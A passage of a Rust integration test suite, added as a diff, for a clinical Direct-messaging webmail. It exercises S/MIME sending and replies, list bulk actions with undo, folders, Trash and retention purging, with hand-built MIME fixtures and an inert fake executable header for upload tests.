@@ -1,0 +1,2485 @@
+//! The webmail as a user meets it: writing, sending and replying through the real
+//! S/MIME path, the list and its bulk actions with undo, folders, Trash, search,
+//! paging and polling, drafts that survive a session, refused uploads and recipients
+//! with the reason, other people's mail answered with 404, sanitized HTML, shared
+//! mailboxes, failed delivery with "Edit and resend", and printing.
+//!
+//! Most tests seed messages straight into a mailbox (`store::inbound::deliver`) to
+//! stay fast; the first and the failed-delivery tests go through the real sender.
+
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::time::{Duration, Instant};
+
+use base64::Engine as _;
+use directmail::domain::{DisplayName, Email, Role};
+use directmail::outbound::{Attachment, Draft};
+use directmail::store::inbound::{self, NewMessage};
+use directmail::store::mailboxes::{self, Mailbox, MailboxKind};
+use directmail::store::{drafts, messages, orgs};
+use regex::Regex;
+use reqwest::StatusCode;
+use sqlx::Row as _;
+
+use crate::helpers::{Browser, Page, TestApp, pdf};
+
+// ---------------------------------------------------------------------------------
+// fixtures
+
+/// A Windows program's first bytes (the "MZ" header and DOS stub).
+fn windows_program() -> Vec<u8> {
+    let mut b = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00".to_vec();
+    b.extend_from_slice(b"This program cannot be run in DOS mode.\r\r\n$");
+    b.resize(2048, 0);
+    b
+}
+
+/// An organization on `domain` with a member `user` and their personal mailbox
+/// `address`, without a certificate (enough for everything but sending).
+async fn desk(app: &TestApp, org: &str, domain: &str, user: &str, address: &str) -> Mailbox {
+    let org = app.org(org, domain).await;
+    let u = app.user(Some(&org), user, Role::Member).await;
+    let m = mailbox(app, org.id, domain, address, MailboxKind::Personal).await;
+    assign(app, m.id, u.id).await;
+    m
+}
+
+async fn mailbox(
+    app: &TestApp,
+    org_id: i64,
+    domain: &str,
+    address: &str,
+    kind: MailboxKind,
+) -> Mailbox {
+    let d = orgs::domain_by_name(&app.state.db, domain)
+        .await
+        .unwrap()
+        .expect("domain");
+    let mut tx = app.state.db.pool.begin().await.unwrap();
+    let m = mailboxes::create(
+        &mut tx,
+        org_id,
+        d.id,
+        &Email::parse(address).unwrap(),
+        kind,
+        &DisplayName::parse("Front desk").unwrap(),
+        app.now(),
+    )
+    .await
+    .unwrap();
+    tx.commit().await.unwrap();
+    m
+}
+
+async fn assign(app: &TestApp, mailbox_id: i64, user_id: i64) {
+    let mut tx = app.state.db.pool.begin().await.unwrap();
+    mailboxes::assign(&mut tx, mailbox_id, user_id)
+        .await
+        .unwrap();
+    tx.commit().await.unwrap();
+}
+
+async fn rename(app: &TestApp, email: &str, name: &str) {
+    sqlx::query("update users set display_name = $1 where email = $2")
+        .bind(name)
+        .bind(email)
+        .execute(&app.state.db.pool)
+        .await
+        .unwrap();
+}
+
+/// A message as another HISP would deliver it (after decryption), built by hand.
+#[derive(Clone, Default)]
+struct Mail {
+    from_name: String,
+    from: String,
+    to: String,
+    cc: String,
+    subject: String,
+    text: String,
+    html: Option<String>,
+    files: Vec<(String, Vec<u8>)>,
+    message_id: String,
+}
+
+static NEXT_ID: AtomicU64 = AtomicU64::new(1);
+
+impl Mail {
+    fn new(from: &str, to: &str, subject: &str, text: &str) -> Mail {
+        Mail {
+            from: from.into(),
+            to: to.into(),
+            subject: subject.into(),
+            text: text.into(),
+            message_id: format!(
+                "{}.{}@mail.test",
+                NEXT_ID.fetch_add(1, Ordering::Relaxed),
+                std::process::id()
+            ),
+            ..Mail::default()
+        }
+    }
+
+    fn named(mut self, name: &str) -> Mail {
+        self.from_name = name.into();
+        self
+    }
+
+    fn cc(mut self, cc: &str) -> Mail {
+        self.cc = cc.into();
+        self
+    }
+
+    fn html(mut self, html: &str) -> Mail {
+        self.html = Some(html.into());
+        self
+    }
+
+    fn file(mut self, name: &str, data: Vec<u8>) -> Mail {
+        self.files.push((name.into(), data));
+        self
+    }
+
+    fn bytes(&self) -> Vec<u8> {
+        fn word(s: &str) -> String {
+            if s.is_ascii() {
+                format!("\"{s}\"")
+            } else {
+                format!(
+                    "=?UTF-8?B?{}?=",
+                    base64::engine::general_purpose::STANDARD.encode(s)
+                )
+            }
+        }
+        let mut m = String::new();
+        if self.from_name.is_empty() {
+            m.push_str(&format!("From: <{}>\r\n", self.from));
+        } else {
+            m.push_str(&format!(
+                "From: {} <{}>\r\n",
+                word(&self.from_name),
+                self.from
+            ));
+        }
+        m.push_str(&format!("To: {}\r\n", self.to));
+        if !self.cc.is_empty() {
+            m.push_str(&format!("Cc: {}\r\n", self.cc));
+        }
+        let subject = if self.subject.is_ascii() {
+            self.subject.clone()
+        } else {
+            word(&self.subject)
+        };
+        m.push_str(&format!("Subject: {subject}\r\n"));
+        m.push_str(&format!("Message-ID: <{}>\r\n", self.message_id));
+        m.push_str("MIME-Version: 1.0\r\n");
+        let (ctype, body) = match &self.html {
+            Some(h) => ("text/html", h.as_str()),
+            None => ("text/plain", self.text.as_str()),
+        };
+        let body = body.replace('\n', "\r\n");
+        if self.files.is_empty() {
+            m.push_str(&format!(
+                "Content-Type: {ctype}; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{body}\r\n"
+            ));
+            return m.into_bytes();
+        }
+        let boundary = "=_part_boundary_0";
+        m.push_str(&format!(
+            "Content-Type: multipart/mixed; boundary=\"{boundary}\"\r\n\r\n"
+        ));
+        m.push_str(&format!(
+            "--{boundary}\r\nContent-Type: {ctype}; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{body}\r\n"
+        ));
+        for (name, data) in &self.files {
+            let encoded = base64::engine::general_purpose::STANDARD.encode(data);
+            let lines: Vec<&str> = encoded
+                .as_bytes()
+                .chunks(76)
+                .map(|c| std::str::from_utf8(c).unwrap())
+                .collect();
+            let ctype = if data.starts_with(b"%PDF-") {
+                "application/pdf"
+            } else {
+                "application/octet-stream"
+            };
+            m.push_str(&format!(
+                "--{boundary}\r\nContent-Type: {ctype}; name=\"{name}\"\r\nContent-Disposition: attachment; filename=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n",
+                lines.join("\r\n")
+            ));
+        }
+        m.push_str(&format!("--{boundary}--\r\n"));
+        m.into_bytes()
+    }
+}
+
+const TRUSTED: &str =
+    "The sender's signature is valid and trusted, and the message was encrypted for you.";
+
+/// Files messages in a mailbox's Inbox as if they had arrived at `at`, in one
+/// transaction; returns their ids in order.
+async fn deliver_many(app: &TestApp, mailbox_id: i64, mails: &[(Mail, i64)]) -> Vec<i64> {
+    let db = &app.state.db;
+    let _turn = db.write_turn().await;
+    let mut tx = db.pool.begin().await.unwrap();
+    let mut ids = Vec::new();
+    for (mail, at) in mails {
+        let raw = mail.bytes();
+        assert!(
+            inbound::deliver(
+                &mut tx,
+                NewMessage {
+                    mailbox_id,
+                    inbound_id: None,
+                    message_id: Some(&mail.message_id),
+                    from_addr: &mail.from,
+                    subject: &mail.subject,
+                    trust_code: "trusted",
+                    trust_sentence: TRUSTED,
+                    signer_subject: Some("CN=partner.example"),
+                    signer_issuer: Some("CN=Partner CA"),
+                    revocation: "checked",
+                    raw: &raw,
+                },
+                *at,
+            )
+            .await
+            .unwrap()
+        );
+        let id: i64 =
+            sqlx::query_scalar("select id from messages where mailbox_id = $1 and message_id = $2")
+                .bind(mailbox_id)
+                .bind(&mail.message_id)
+                .fetch_one(&mut *tx)
+                .await
+                .unwrap();
+        ids.push(id);
+    }
+    tx.commit().await.unwrap();
+    ids
+}
+
+async fn deliver(app: &TestApp, mailbox_id: i64, mail: &Mail) -> i64 {
+    deliver_many(app, mailbox_id, &[(mail.clone(), app.now())]).await[0]
+}
+
+/// Where a message is: `(folder, read)`, or `None` once deleted for good.
+async fn place(app: &TestApp, id: i64) -> Option<(String, bool)> {
+    let row = sqlx::query("select folder, is_read from messages where id = $1")
+        .bind(id)
+        .fetch_optional(&app.state.db.pool)
+        .await
+        .unwrap()?;
+    let read: i64 = row.try_get("is_read").unwrap();
+    Some((row.try_get("folder").unwrap(), read != 0))
+}
+
+fn at(folder: &str, read: bool) -> Option<(String, bool)> {
+    Some((folder.to_owned(), read))
+}
+
+async fn audited(app: &TestApp, action: &str, actor: &str) -> bool {
+    directmail::audit::list(&app.state.db, &Default::default(), 1000)
+        .await
+        .unwrap()
+        .iter()
+        .any(|e| e.action == action && e.actor == actor)
+}
+
+fn deadline() -> Instant {
+    Instant::now() + Duration::from_secs(120)
+}
+
+async fn pause() {
+    tokio::time::sleep(Duration::from_millis(100)).await;
+}
+
+// ---------------------------------------------------------------------------------
+// reading pages
+
+/// Page text with the HTML escapes undone.
+fn unescape(s: &str) -> String {
+    s.replace("&#60;", "<")
+        .replace("&#62;", ">")
+        .replace("&#34;", "\"")
+        .replace("&#39;", "'")
+        .replace("&#x27;", "'")
+        .replace("&#x2f;", "/")
+        .replace("&lt;", "<")
+        .replace("&gt;", ">")
+        .replace("&quot;", "\"")
+        .replace("&#38;", "&")
+        .replace("&amp;", "&")
+}
+
+/// The value of an input, or the text of a textarea, by id.
+fn field(page: &Page, id: &str) -> String {
+    let id = regex::escape(id);
+    let textarea = Regex::new(&format!(
+        r#"(?s)<textarea[^>]*\bid="{id}"[^>]*>(.*?)</textarea>"#
+    ))
+    .unwrap();
+    if let Some(c) = textarea.captures(&page.body) {
+        return unescape(&c[1]);
+    }
+    let input = Regex::new(&format!(r#"<input[^>]*\bid="{id}"[^>]*>"#)).unwrap();
+    let tag = input
+        .find(&page.body)
+        .unwrap_or_else(|| panic!("no field {id} in {}", page.body));
+    Regex::new(r#"\bvalue="([^"]*)""#)
+        .unwrap()
+        .captures(tag.as_str())
+        .map(|c| unescape(&c[1]))
+        .unwrap_or_default()
+}
+
+/// The message ids listed, in order.
+fn row_ids(body: &str) -> Vec<i64> {
+    Regex::new(r#"<tr data-id="(\d+)""#)
+        .unwrap()
+        .captures_iter(body)
+        .map(|c| c[1].parse().unwrap())
+        .collect()
+}
+
+/// One list row's HTML.
+fn row(body: &str, id: i64) -> String {
+    Regex::new(&format!(r#"(?s)<tr data-id="{id}".*?</tr>"#))
+        .unwrap()
+        .find(body)
+        .unwrap_or_else(|| panic!("no row {id} in {body}"))
+        .as_str()
+        .to_owned()
+}
+
+/// The unread (or drafts) count a folder shows in the sidebar.
+fn count(body: &str, folder: &str) -> i64 {
+    let re = Regex::new(&format!(
+        r#"id="count-{}"[^>]*>(\d*)"#,
+        regex::escape(folder)
+    ))
+    .unwrap();
+    let c = re
+        .captures(body)
+        .unwrap_or_else(|| panic!("no count for {folder}"));
+    c[1].parse().unwrap_or(0)
+}
+
+/// The "Older" link of a list page, if any.
+fn older(body: &str) -> Option<String> {
+    let tag = Regex::new(r#"<a [^>]*rel="next"[^>]*>"#)
+        .unwrap()
+        .find(body)?;
+    let href = Regex::new(r#"href="([^"]+)""#)
+        .unwrap()
+        .captures(tag.as_str())?;
+    Some(unescape(&href[1]))
+}
+
+/// The flash banner's text ("" when none).
+fn flash(body: &str) -> String {
+    Regex::new(r#"(?s)<div class="banner ok" role="status">(.*?)</div>"#)
+        .unwrap()
+        .captures(body)
+        .map(|c| unescape(&c[1]))
+        .unwrap_or_default()
+}
+
+fn draft_id(location: &str) -> i64 {
+    Regex::new(r"^/mail/drafts/(\d+)$")
+        .unwrap()
+        .captures(location)
+        .unwrap_or_else(|| panic!("not a draft: {location}"))[1]
+        .parse()
+        .unwrap()
+}
+
+fn message_id_of(location: &str) -> i64 {
+    Regex::new(r"^/mail/messages/(\d+)$")
+        .unwrap()
+        .captures(location)
+        .unwrap_or_else(|| panic!("not a message: {location}"))[1]
+        .parse()
+        .unwrap()
+}
+
+/// Posts the list form: `action` (and `folder`) on the checked `ids`.
+async fn act(b: &mut Browser, mailbox_id: i64, fields: &[(&str, &str)], ids: &[i64]) -> Page {
+    let ids: Vec<String> = ids.iter().map(i64::to_string).collect();
+    let mut all: Vec<(&str, &str)> = fields.to_vec();
+    all.extend(ids.iter().map(|i| ("id", i.as_str())));
+    b.post(&format!("/mail/{mailbox_id}/act"), &all).await
+}
+
+/// Follows a redirect and returns the page it leads to.
+async fn follow(b: &mut Browser, response: Page) -> Page {
+    assert_eq!(
+        response.status,
+        StatusCode::SEE_OTHER,
+        "expected a redirect: {}",
+        response.body
+    );
+    b.get(&response.location()).await
+}
+
+async fn get_bytes(b: &Browser, path: &str) -> (StatusCode, reqwest::header::HeaderMap, Vec<u8>) {
+    let r = b
+        .client
+        .get(format!("{}{path}", b.base))
+        .send()
+        .await
+        .unwrap();
+    let status = r.status();
+    let headers = r.headers().clone();
+    (status, headers, r.bytes().await.unwrap().to_vec())
+}
+
+fn header(headers: &reqwest::header::HeaderMap, name: &str) -> String {
+    headers
+        .get(name)
+        .and_then(|v| v.to_str().ok())
+        .unwrap_or_default()
+        .to_owned()
+}
+
+/// Starts a draft in a mailbox from the sidebar's "New message" button.
+async fn compose(b: &mut Browser, mailbox_id: i64) -> i64 {
+    let r = b.post(&format!("/mail/{mailbox_id}/compose"), &[]).await;
+    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
+    draft_id(&r.location())
+}
+
+// ---------------------------------------------------------------------------------
+// 1. the whole round trip through the real S/MIME path
+
+#[tokio::test]
+async fn a_message_written_in_the_browser_is_received_read_and_answered_with_delivery_shown() {
+    let app = TestApp::spawn().await;
+    let ana_box = app
+        .practice(
+            "Lakeside Clinic",
+            "direct.lakeside.test",
+            "ana@direct.lakeside.test",
+            "dr.ana@direct.lakeside.test",
+        )
+        .await;
+    let kim_box = app
+        .practice(
+            "Hillside Care",
+            "direct.hillside.test",
+            "kim@direct.hillside.test",
+            "front@direct.hillside.test",
+        )
+        .await;
+    rename(&app, "ana@direct.lakeside.test", "Dr. Ana Ruiz").await;
+    rename(&app, "kim@direct.hillside.test", "Kim Lee").await;
+    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
+
+    // New message → a draft of its own
+    let draft = compose(&mut ana, ana_box.id).await;
+    let page = ana.get(&format!("/mail/drafts/{draft}")).await;
+    assert_eq!(page.status, StatusCode::OK);
+    assert!(page.body.contains("New message"));
+    assert!(page.body.contains("dr.ana@direct.lakeside.test"));
+
+    // typing is saved as it goes
+    let fields = [
+        ("to", "front@direct.hillside.test"),
+        ("cc", ""),
+        ("subject", "Referral for Ms. Diaz"),
+        (
+            "body",
+            "Please see her this week about the echo.\nThanks, Ana",
+        ),
+    ];
+    let saved = ana
+        .post_with(
+            &format!("/mail/drafts/{draft}"),
+            &fields,
+            &[("x-autosave", "1")],
+        )
+        .await;
+    assert_eq!(saved.status, StatusCode::OK, "{}", saved.body);
+    assert!(saved.body.starts_with("Saved "), "{}", saved.body);
+
+    // a real PDF is accepted
+    let letter = pdf("Referral letter for Ms Diaz");
+    let up = ana
+        .upload(
+            &format!("/mail/drafts/{draft}/attachments"),
+            &[("referral.pdf", "application/pdf", &letter)],
+            true,
+        )
+        .await;
+    assert_eq!(up.status, StatusCode::OK, "{}", up.body);
+    assert!(up.body.contains("referral.pdf") && !up.body.contains("upload-refused"));
+
+    // Send (the button posts the whole form) → the Sent item, delivery per recipient
+    let sent = ana
+        .post(&format!("/mail/drafts/{draft}/send"), &fields)
+        .await;
+    assert_eq!(sent.status, StatusCode::SEE_OTHER, "{}", sent.body);
+    let sent_id = message_id_of(&sent.location());
+    let page = ana.get(&sent.location()).await;
+    assert_eq!(page.status, StatusCode::OK);
+    assert!(flash(&page.body).contains("Sent. Delivery is shown below for each recipient."));
+    assert!(page.body.contains(r#"<ul id="delivery""#));
+    assert!(page.body.contains("front@direct.hillside.test: <strong>"));
+    assert!(
+        drafts::get(&app.state.db, draft).await.unwrap().is_none(),
+        "the draft is gone once sent"
+    );
+    assert!(audited(&app, "message.send", "ana@direct.lakeside.test").await);
+
+    // the other practice receives it through the real S/MIME path
+    app.state.wake_sender.notify_one();
+    let end = deadline();
+    let received = loop {
+        let list = inbound::messages_in(&app.state.db, kim_box.id, "inbox", 10)
+            .await
+            .unwrap();
+        if let Some(m) = list.iter().find(|m| m.subject == "Referral for Ms. Diaz") {
+            break m.id;
+        }
+        assert!(Instant::now() < end, "not delivered");
+        pause().await;
+    };
+
+    let mut kim = app.signed_in("kim@direct.hillside.test").await;
+    let list = kim.get(&format!("/mail/{}/inbox", kim_box.id)).await;
+    assert_eq!(list.status, StatusCode::OK);
+    let r = row(&list.body, received);
+    assert!(
+        r.contains(r#"class="unread""#) && r.contains("(unread)"),
+        "{r}"
+    );
+    assert!(
+        r.contains("Dr. Ana Ruiz") && r.contains("dr.ana@direct.lakeside.test"),
+        "{r}"
+    );
+    assert!(r.contains("Referral for Ms. Diaz"), "{r}");
+    assert!(
+        r.contains("Please see her this week about the echo."),
+        "snippet: {r}"
+    );
+    assert!(r.contains(r#"aria-label="Has attachments""#), "{r}");
+    assert!(r.contains("Trusted"), "{r}");
+    assert_eq!(count(&list.body, "inbox"), 1);
+
+    // reading it marks it read and is audited
+    let page = kim.get(&format!("/mail/messages/{received}")).await;
+    assert_eq!(page.status, StatusCode::OK);
+    assert!(page.body.contains("Trusted."));
+    assert!(
+        page.body
+            .contains("Please see her this week about the echo.")
+    );
+    assert!(page.body.contains("referral.pdf"));
+    assert!(
+        page.body
+            .contains(&format!("/mail/messages/{received}/attachments/0?inline=1"))
+    );
+    assert_eq!(place(&app, received).await, at("inbox", true));
+    assert!(audited(&app, "message.read", "kim@direct.hillside.test").await);
+    let list = kim.get(&format!("/mail/{}/inbox", kim_box.id)).await;
+    assert!(!row(&list.body, received).contains(r#"class="unread""#));
+    assert_eq!(count(&list.body, "inbox"), 0);
+
+    // the PDF opens in the browser, sandboxed, and that is audited
+    let (status, headers, bytes) = get_bytes(
+        &kim,
+        &format!("/mail/messages/{received}/attachments/0?inline=1"),
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK);
+    assert_eq!(header(&headers, "content-type"), "application/pdf");
+    assert!(header(&headers, "content-disposition").starts_with("inline"));
+    assert!(header(&headers, "content-security-policy").contains("sandbox"));
+    assert_eq!(bytes, letter);
+    assert!(audited(&app, "attachment.view", "kim@direct.hillside.test").await);
+
+    // Reply: To is the sender, "Re: …", the text quoted
+    let reply = kim
+        .post(
+            &format!("/mail/messages/{received}/act"),
+            &[("action", "reply")],
+        )
+        .await;
+    assert_eq!(reply.status, StatusCode::SEE_OTHER, "{}", reply.body);
+    let reply_draft = draft_id(&reply.location());
+    let page = kim.get(&reply.location()).await;
+    assert_eq!(field(&page, "to"), "dr.ana@direct.lakeside.test");
+    assert_eq!(field(&page, "subject"), "Re: Referral for Ms. Diaz");
+    let quoted = field(&page, "body");
+    assert!(
+        quoted.contains("dr.ana@direct.lakeside.test wrote:")
+            && quoted.contains("> Please see her this week about the echo."),
+        "{quoted}"
+    );
+    let text = format!("Booked for Friday at 10.\n{quoted}");
+    let sent_reply = kim
+        .post(
+            &format!("/mail/drafts/{reply_draft}/send"),
+            &[
+                ("to", field(&page, "to").as_str()),
+                ("cc", field(&page, "cc").as_str()),
+                ("subject", field(&page, "subject").as_str()),
+                ("body", text.as_str()),
+            ],
+        )
+        .await;
+    assert_eq!(
+        sent_reply.status,
+        StatusCode::SEE_OTHER,
+        "{}",
+        sent_reply.body
+    );
+    assert!(audited(&app, "message.send", "kim@direct.hillside.test").await);
+
+    // the first sender receives the reply
+    app.state.wake_sender.notify_one();
+    let end = deadline();
+    let answer = loop {
+        let list = inbound::messages_in(&app.state.db, ana_box.id, "inbox", 10)
+            .await
+            .unwrap();
+        if let Some(m) = list
+            .iter()
+            .find(|m| m.subject == "Re: Referral for Ms. Diaz")
+        {
+            break m.id;
+        }
+        assert!(Instant::now() < end, "the reply was not delivered");
+        pause().await;
+    };
+    let list = ana.get(&format!("/mail/{}/inbox", ana_box.id)).await;
+    let r = row(&list.body, answer);
+    assert!(
+        r.contains("Kim Lee") && r.contains("Booked for Friday at 10."),
+        "{r}"
+    );
+    let page = ana.get(&format!("/mail/messages/{answer}")).await;
+    assert!(page.body.contains("Booked for Friday at 10."));
+
+    // the original says who replied, in the list and on the message
+    let list = kim.get(&format!("/mail/{}/inbox", kim_box.id)).await;
+    assert!(row(&list.body, received).contains("Replied by Kim Lee"));
+    let page = kim.get(&format!("/mail/messages/{received}")).await;
+    assert!(page.body.contains("Replied by Kim Lee"), "{}", page.body);
+
+    // and the first sender's Sent item ends "delivered"
+    let end = deadline();
+    loop {
+        let page = ana.get(&format!("/mail/messages/{sent_id}")).await;
+        if page
+            .body
+            .contains("front@direct.hillside.test: <strong>delivered</strong>")
+        {
+            break;
+        }
+        assert!(Instant::now() < end, "{}", page.body);
+        pause().await;
+    }
+    let list = ana.get(&format!("/mail/{}/sent", ana_box.id)).await;
+    assert!(row(&list.body, sent_id).contains("1 delivered"));
+}
+
+// ---------------------------------------------------------------------------------
+// 2. the list's actions
+
+#[tokio::test]
+async fn bulk_actions_move_flag_and_delete_with_undo_folders_trash_and_counts() {
+    let app = TestApp::spawn().await;
+    let mb = desk(
+        &app,
+        "Lakeside Clinic",
+        "direct.lakeside.test",
+        "ana@direct.lakeside.test",
+        "dr.ana@direct.lakeside.test",
+    )
+    .await;
+    let other = desk(
+        &app,
+        "Hillside Care",
+        "direct.hillside.test",
+        "kim@direct.hillside.test",
+        "front@direct.hillside.test",
+    )
+    .await;
+    let now = app.now();
+    let mails: Vec<(Mail, i64)> = (1..=4)
+        .map(|i| {
+            (
+                Mail::new(
+                    "lab@partner.example",
+                    "dr.ana@direct.lakeside.test",
+                    &format!("Result {i}"),
+                    "Values attached.",
+                ),
+                now,
+            )
+        })
+        .collect();
+    let ids = deliver_many(&app, mb.id, &mails).await;
+    let (m1, m2, m3, m4) = (ids[0], ids[1], ids[2], ids[3]);
+    let foreign = deliver(
+        &app,
+        other.id,
+        &Mail::new(
+            "lab@partner.example",
+            "front@direct.hillside.test",
+            "Hillside only",
+            "Not for Lakeside.",
+        ),
+    )
+    .await;
+    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
+    let inbox = format!("/mail/{}/inbox", mb.id);
+    let page = ana.get(&inbox).await;
+    assert_eq!(count(&page.body, "inbox"), 4);
+    assert_eq!(row_ids(&page.body), vec![m4, m3, m2, m1], "newest first");
+
+    // mark read / unread (a message of another mailbox in the form is ignored)
+    let r = act(&mut ana, mb.id, &[("action", "read")], &[m1, m2, foreign]).await;
+    assert_eq!(r.location(), inbox);
+    let page = follow(&mut ana, r).await;
+    assert_eq!(flash(&page.body), "2 messages marked read.");
+    assert_eq!(count(&page.body, "inbox"), 2);
+    assert!(!row(&page.body, m1).contains(r#"class="unread""#));
+    assert_eq!(place(&app, foreign).await, at("inbox", false));
+    let r = act(&mut ana, mb.id, &[("action", "unread")], &[m1]).await;
+    let page = follow(&mut ana, r).await;
+    assert_eq!(flash(&page.body), "1 message marked unread.");
+    assert_eq!(count(&page.body, "inbox"), 3);
+
+    // archive
+    let r = act(&mut ana, mb.id, &[("action", "archive")], &[m1]).await;
+    let page = follow(&mut ana, r).await;
+    assert_eq!(flash(&page.body), "1 message moved to Archive.");
+    assert_eq!(row_ids(&page.body), vec![m4, m3, m2]);
+    assert_eq!(
+        (count(&page.body, "inbox"), count(&page.body, "archive")),
+        (2, 1)
+    );
+    let page = ana.get(&format!("/mail/{}/archive", mb.id)).await;
+    assert_eq!(row_ids(&page.body), vec![m1]);
+
+    // delete → Trash, and undo puts everything back as it was
+    let r = act(
+        &mut ana,
+        mb.id,
+        &[("action", "trash"), ("back", inbox.as_str())],
+        &[m2, m3, foreign],
+    )
+    .await;
+    let page = follow(&mut ana, r).await;
+    assert_eq!(flash(&page.body), "2 messages moved to Trash.");
+    assert_eq!(row_ids(&page.body), vec![m4]);
+    assert_eq!(
+        (count(&page.body, "inbox"), count(&page.body, "trash")),
+        (1, 1)
+    );
+    assert!(
+        page.body
+            .contains("Last action: 2 messages moved to Trash.")
+    );
+    assert_eq!(place(&app, m2).await, at("trash", true));
+    assert_eq!(place(&app, m3).await, at("trash", false));
+    assert_eq!(place(&app, foreign).await, at("inbox", false));
+    let trash = ana.get(&format!("/mail/{}/trash", mb.id)).await;
+    assert_eq!(row_ids(&trash.body), vec![m3, m2]);
+    assert!(trash.body.contains("Delete for good") && trash.body.contains("Empty Trash now"));
+    let r = ana
+        .post(
+            &format!("/mail/{}/undo", mb.id),
+            &[("back", inbox.as_str())],
+        )
+        .await;
+    let page = follow(&mut ana, r).await;
+    assert_eq!(flash(&page.body), "Undone: 2 messages back as they were.");
+    assert_eq!(row_ids(&page.body), vec![m4, m3, m2]);
+    assert_eq!(
+        (count(&page.body, "inbox"), count(&page.body, "trash")),
+        (2, 0)
+    );
+    assert_eq!(place(&app, m2).await, at("inbox", true));
+    assert_eq!(place(&app, m3).await, at("inbox", false));
+    assert!(!page.body.contains("Last action:"));
+    let r = ana.post(&format!("/mail/{}/undo", mb.id), &[]).await;
+    let page = follow(&mut ana, r).await;
+    assert_eq!(flash(&page.body), "There is nothing to undo.");
+
+    // a folder of one's own: create, move into it, delete it (messages return)
+    let r = ana
+        .post(
+            &format!("/mail/{}/folders", mb.id),
+            &[("name", "Referrals")],
+        )
+        .await;
+    assert_eq!(r.status, StatusCode::SEE_OTHER);
+    let folder_path = r.location();
+    let key = folder_path.rsplit('/').next().unwrap().to_owned();
+    assert!(key.starts_with('f'), "{folder_path}");
+    let page = follow(&mut ana, r).await;
+    assert_eq!(flash(&page.body), "Folder “Referrals” created.");
+    assert!(page.body.contains(r#"<h1 id="folder-title">Referrals"#));
+    assert!(page.body.contains("No message here."));
+    let r = ana
+        .post(
+            &format!("/mail/{}/folders", mb.id),
+            &[("name", "Referrals")],
+        )
+        .await;
+    let page = follow(&mut ana, r).await;
+    assert!(flash(&page.body).contains("There is already a folder called “Referrals”"));
+    let r = act(
+        &mut ana,
+        mb.id,
+        &[("action", "move"), ("folder", key.as_str())],
+        &[m2, m3, foreign],
+    )
+    .await;
+    let page = follow(&mut ana, r).await;
+    assert_eq!(flash(&page.body), "2 messages moved to Referrals.");
+    assert_eq!(
+        (count(&page.body, "inbox"), count(&page.body, &key)),
+        (1, 1)
+    );
+    let page = ana.get(&folder_path).await;
+    assert_eq!(row_ids(&page.body), vec![m3, m2]);
+    assert_eq!(place(&app, foreign).await, at("inbox", false));
+    // moving to Sent or Drafts is not a thing
+    let r = act(
+        &mut ana,
+        mb.id,
+        &[("action", "move"), ("folder", "sent")],
+        &[m2],
+    )
+    .await;
+    let page = follow(&mut ana, r).await;
+    assert_eq!(
+        flash(&page.body),
+        "Choose a folder to move the messages to."
+    );
+    assert_eq!(place(&app, m2).await, at(&key, true));
+    let r = ana
+        .post(&format!("/mail/{}/folders/{key}/delete", mb.id), &[])
+        .await;
+    let page = follow(&mut ana, r).await;
+    assert_eq!(
+        flash(&page.body),
+        "Folder “Referrals” deleted; its 2 messages went back to the Inbox."
+    );
+    assert_eq!(row_ids(&page.body), vec![m4, m3, m2]);
+    assert_eq!(count(&page.body, "inbox"), 2);
+    assert!(!page.body.contains(&format!("count-{key}")));
+    assert_eq!(ana.get(&folder_path).await.status, StatusCode::NOT_FOUND);
+
+    // "Delete for good" only deletes what is in Trash
+    let r = act(&mut ana, mb.id, &[("action", "delete")], &[m4]).await;
+    let page = follow(&mut ana, r).await;
+    assert_eq!(flash(&page.body), "0 messages deleted for good.");
+    assert_eq!(place(&app, m4).await, at("inbox", false));
+    act(&mut ana, mb.id, &[("action", "trash")], &[m4]).await;
+    let r = act(
+        &mut ana,
+        mb.id,
+        &[
+            ("action", "delete"),
+            ("back", format!("/mail/{}/trash", mb.id).as_str()),
+        ],
+        &[m4],
+    )
+    .await;
+    let page = follow(&mut ana, r).await;
+    assert_eq!(flash(&page.body), "1 message deleted for good.");
+    assert_eq!(place(&app, m4).await, None);
+    assert!(
+        !page.body.contains("Last action:"),
+        "deleting for good has no undo"
+    );
+
+    // "Empty Trash now"
+    act(&mut ana, mb.id, &[("action", "trash")], &[m2, m3]).await;
+    let r = ana.post(&format!("/mail/{}/trash/empty", mb.id), &[]).await;
+    assert_eq!(r.location(), format!("/mail/{}/trash", mb.id));
+    let page = follow(&mut ana, r).await;
+    assert_eq!(
+        flash(&page.body),
+        "Trash emptied: 2 messages deleted for good."
+    );
+    assert!(page.body.contains("No message here."));
+    assert_eq!((place(&app, m2).await, place(&app, m3).await), (None, None));
+    assert!(!page.body.contains("Last action:"));
+    assert!(audited(&app, "trash.empty", "ana@direct.lakeside.test").await);
+
+    // what stays in Trash past the retention period is purged
+    let later = deliver_many(
+        &app,
+        mb.id,
+        &[
+            (
+                Mail::new(
+                    "lab@partner.example",
+                    "dr.ana@direct.lakeside.test",
+                    "Old",
+                    "x",
+                ),
+                now,
+            ),
+            (
+                Mail::new(
+                    "lab@partner.example",
+                    "dr.ana@direct.lakeside.test",
+                    "Recent",
+                    "x",
+                ),
+                now,
+            ),
+        ],
+    )
+    .await;
+    act(&mut ana, mb.id, &[("action", "trash")], &later).await;
+    let keep = 30 * 86_400;
+    assert_eq!(
+        messages::purge_trash(&app.state.db, app.now() - keep)
+            .await
+            .unwrap(),
+        0
+    );
+    sqlx::query("update messages set trashed_at = $1 where id = $2")
+        .bind(app.now() - keep - 86_400)
+        .bind(later[0])
+        .execute(&app.state.db.pool)
+        .await
+        .unwrap();
+    assert_eq!(
+        messages::purge_trash(&app.state.db, app.now() - keep)
+            .await
+            .unwrap(),
+        1
+    );
+    assert_eq!(place(&app, later[0]).await, None);
+    assert_eq!(place(&app, later[1]).await, at("trash", false));
+    let page = ana.get(&format!("/mail/{}/trash", mb.id)).await;
+    assert_eq!(row_ids(&page.body), vec![later[1]]);
+    assert_eq!(count(&page.body, "trash"), 1);
+
+    // the same actions from the message page
+    let m = later[1];
+    let r = ana
+        .post(
+            &format!("/mail/messages/{m}/act"),
